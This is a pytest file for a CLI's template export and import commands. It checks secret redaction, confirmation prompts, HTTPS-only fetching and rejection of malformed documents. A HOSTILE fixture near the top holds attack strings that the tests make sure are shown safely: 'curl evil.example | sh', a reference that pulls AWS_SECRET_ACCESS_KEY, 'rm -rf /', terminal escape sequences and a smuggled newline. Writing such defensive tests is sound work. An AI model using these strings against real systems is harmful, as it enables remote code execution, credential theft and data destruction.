"""`rp template export`, `import`: templates between people who need not trust each other."""

import json
import os
import pty
import subprocess
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pexpect
import pytest

from conftest import IMAGE, RP, User
from unit.runpod.server import Reply, Server, serving

HOSTILE = {
    "name": "sd",
    "gpuPreference": ["H100"],
    "container": {
        "imageName": "evil/\x1b]0;owned\x07image",
        "startScript": "#!/bin/sh\ncurl evil.example | sh\r\x1b[2Kecho harmless\n",
        "env": {"A": "${env:AWS_SECRET_ACCESS_KEY}", "B": "hf_value", "PUBLIC_KEY": "ssh-ed25519 AAAA evil"},
        "ports": [7860],
    },
    "registryAuthId": "reg\n  image          runpod/base",
    "health": {"smokeCommands": ["rm -rf /\u202e"]},
    "$imported": {"agreed": True},
}


@pytest.fixture
def server() -> Iterator[Server]:
    with serving() as running:
        yield running


def _file(user: User, document: Any, name: str = "given.json") -> str:
    path = user.home / name
    path.write_text(json.dumps(document))
    return str(path)


def _stored(user: User) -> dict[str, Any]:
    path = user.config / "templates.json"
    found: dict[str, Any] = json.loads(path.read_text()) if path.exists() else {}
    return found


def test_an_exported_template_is_imported_and_is_the_same(user: User, tmp_path: Path) -> None:
    user.write_template("sd", note="mine", container={"imageName": IMAGE, "env": {"HF_TOKEN": "hf_x", "A": "'b' $C"}})
    before = _stored(user)["sd"]
    path = tmp_path / "x.json"

    exported = user.rp("template", "export", "sd", "-o", str(path))
    refused = user.rp("template", "export", "sd", "-o", str(path), code=2)
    user.rp("template", "export", "sd", "-o", str(path), "--include-env", "true", "--force")
    imported = user.rp("template", "import", str(path), "--as", "new", "--yes", "--json")

    assert exported.out == f"{path}\n"
    assert "HF_TOKEN looks like a secret" in exported.err
    assert "hf_x" not in exported.err
    assert "--force" in refused.err
    after = _stored(user)["new"]
    mark = after.pop("$imported")
    assert after == {**before, "name": "new"}
    assert imported.json["new"]["$imported"] == mark
    assert (mark["from"], mark["agreed"]) == (str(path), False)
    assert "note: unknown key" in imported.err


def test_a_pipe_carries_it_from_one_machine_to_another_without_secrets(user: User) -> None:
    user.write_template("sd", container={"imageName": IMAGE, "env": {"HF_TOKEN": "hf_x"}})

    exported = user.rp("template", "export", "sd").out
    user.rp("template", "import", "-y", "-", "--as", "new", stdin=exported)

    assert "import -y -" in user.rp("template", "export", "--help").out
    assert "hf_x" not in exported
    assert _stored(user)["new"]["container"]["env"] == {"HF_TOKEN": "${env:HF_TOKEN}"}
    assert user.rp("template", "diff", "new", "sd", "--json", code=1).json["differences"] == [
        {
            "key": "container.env.HF_TOKEN",
            "left": "${env:HF_TOKEN}",
            "right": "(hidden: it looks like a secret)",
        }
    ]


def test_what_will_run_is_shown_first_and_cannot_steer_the_terminal(user: User) -> None:
    shown = user.rp("template", "import", _file(user, HOSTILE), "--yes").err

    for steering in ("\x1b", "\x07", "\r", "\u202e"):
        assert steering not in shown
    for text in (
        "image          evil/\ufffd]0;owned\ufffdimage",
        "| curl evil.example | sh",
        "smoke command  rm -rf /",
        "7860/http, 22/tcp",
        "| A=${env:AWS_SECRET_ACCESS_KEY}",
        "| B=(hidden",
        "AWS_SECRET_ACCESS_KEY of your environment, and gives it to the pod",
        "none: you pay what the pod costs",
        "! PUBLIC_KEY lets whoever has that key log in",
    ):
        assert text in shown
    # A value with a line break in it does not look like a line of its own.
    assert len([line for line in shown.splitlines() if line.startswith("  image ")]) == 1
    assert "hf_value" not in shown
    assert _stored(user)["sd"]["$imported"]["agreed"] is False


def test_without_a_terminal_and_without_yes_nothing_is_stored(user: User) -> None:
    refused = user.rp("template", "import", _file(user, {**HOSTILE, "container": {"imageName": "i"}}), code=2)

    assert "--yes" in refused.err
    assert _stored(user) == {}


def test_on_a_terminal_it_asks_and_enter_is_no(user: User) -> None:
    path = _file(user, {"gpuPreference": ["H100"], "container": {"imageName": "i"}})
    for answer, names in (("", []), ("y", ["given"])):
        child = pexpect.spawn(RP, ["template", "import", path], env=dict(user.env), timeout=30)
        child.expect_exact("Store given? [y/N] ")
        child.sendline(answer)
        child.expect(pexpect.EOF)
        child.close()

        assert list(_stored(user)) == names


def test_a_whole_file_is_imported_at_once(user: User) -> None:
    one = {"gpuPreference": ["H100"], "container": {"imageName": "i"}}
    user.write_template("b", note="mine")
    before = _stored(user)

    taken = user.rp("template", "import", _file(user, {"a": one, "b": one}), "--yes", code=2)
    broken = user.rp("template", "import", _file(user, {"a": one, "c": {}}), "--yes", code=1)
    many = user.rp("template", "import", _file(user, {"a": one, "c": one}), "--as", "x", "--yes", code=2)
    assert _stored(user) == before
    user.rp("template", "import", _file(user, {"a": one, "b": one}), "--yes", "--force")

    assert "template `b` exists" in taken.err
    assert "c.gpuPreference: is missing" in broken.err
    assert "--as names one template" in many.err
    assert sorted(_stored(user)) == ["a", "b"]


def test_an_address_is_fetched_and_only_a_document_is_taken(user: User, server: Server) -> None:
    document = {"gpuPreference": ["H100"], "container": {"imageName": "i"}}
    server.replies = [Reply(200, json.dumps(document).encode())]
    address = f"{server.address}/templates/sd.json?token=secret"

    user.rp("template", "import", address, "--yes")
    server.replies = [Reply(404, b"no")]
    missing = user.rp("template", "import", address, "--yes", code=6)
    plain = user.rp("template", "import", "http://example.com/sd.json", code=2)

    assert _stored(user)["sd"]["$imported"]["from"] == f"{server.address}/templates/sd.json"
    assert "HTTP 404" in missing.err
    assert "secret" not in missing.err
    assert "use https" in plain.err


@pytest.mark.parametrize(
    ("text", "problem"),
    [
        ("[" * 100_000, "nested too deeply"),
        ('{"a":' * 500 + "1" + "}" * 500, "nested too deeply"),
        ("x" * (1 << 20) + "x", "larger than 1024 KiB"),
        ('{"gpuPreference": ["\\ud800"], "container": {"imageName": "i"}}', "half of a character"),
        ('{"gpuPreference": ["x"], "gpuCount": 1e999, "container": {"imageName": "i"}}', "too large a number"),
        ("<html>", "line 1, column 1"),
    ],
)
def test_a_document_that_is_none_is_an_error_and_no_crash(user: User, text: str, problem: str) -> None:
    result = user.rp("template", "import", "-", "--yes", stdin=text, code=1)

    assert problem in result.err
    assert "bug in rp" not in result.err
    assert len(result.err) < 1000


def test_standard_input_that_is_a_document_is_no_terminal_to_ask_on(user: User) -> None:
    """The screen is one, and the document must not answer the question."""
    path = _file(user, {"gpuPreference": ["H100"], "container": {"imageName": "i"}})
    ours, theirs = pty.openpty()
    with Path(path).open("rb") as file:
        done = subprocess.run([RP, "template", "import", "-"], env=user.env, stdin=file, stderr=theirs, timeout=30)
    os.close(ours)
    os.close(theirs)

    assert done.returncode == 2
    assert _stored(user) == {}
